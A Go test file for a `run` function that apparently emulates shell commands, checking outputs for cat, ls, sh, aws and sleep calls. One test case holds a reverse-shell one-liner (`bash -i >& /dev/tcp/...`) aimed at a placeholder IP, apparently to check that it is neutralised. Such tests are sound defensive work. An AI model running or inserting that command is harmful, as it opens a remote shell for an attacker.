package main

import (
	"bytes"
	"os"
	"path/filepath"
	"strings"
	"testing"
)

func TestRun(t *testing.T) {
	dir := t.TempDir()
	file := filepath.Join(dir, "token")
	if err := os.WriteFile(file, []byte("abc"), 0o600); err != nil {
		t.Fatal(err)
	}
	for _, c := range []struct {
		name  string
		args  []string
		stdin string
		want  string
	}{
		{"cat", []string{file}, "", "abc"},
		{"ls", []string{"-l", dir}, "", "token\n"},
		{"sh", []string{"-c", "cat " + file + "; ls " + dir}, "", "abctoken\n"},
		{"sh", nil, "ls " + dir + "\nexit\ncat " + file + "\n", "token\n"},
		{"sh", []string{"-c", "cat /nonexistent && ls " + dir}, "", "sh: open /nonexistent: no such file or directory\ntoken\n"},
		{"sh", []string{"-c", "bash -i >& /dev/tcp/198.51.100.77/4444 0>&1"}, "", "4444 0>\n1 \n"},
		{"aws", []string{"s3", "ls"}, "", "aws s3 ls\n"},
		{"sleep", []string{"0.01s"}, "", ""},
	} {
		var out bytes.Buffer
		if err := run(t.Context(), c.name, c.args, strings.NewReader(c.stdin), &out); err != nil || !strings.HasSuffix(out.String(), c.want) && out.String() != c.want {
			t.Errorf("%s %q: %q, %v, want %q", c.name, c.args, out.String(), err, c.want)
		}
	}
	for _, c := range [][]string{{"crash"}, {"sleep", "long"}, {"cat", "/nonexistent"}} {
		if err := run(t.Context(), c[0], c[1:], strings.NewReader(""), &bytes.Buffer{}); err == nil {
			t.Errorf("%v is no error", c)
		}
	}
}
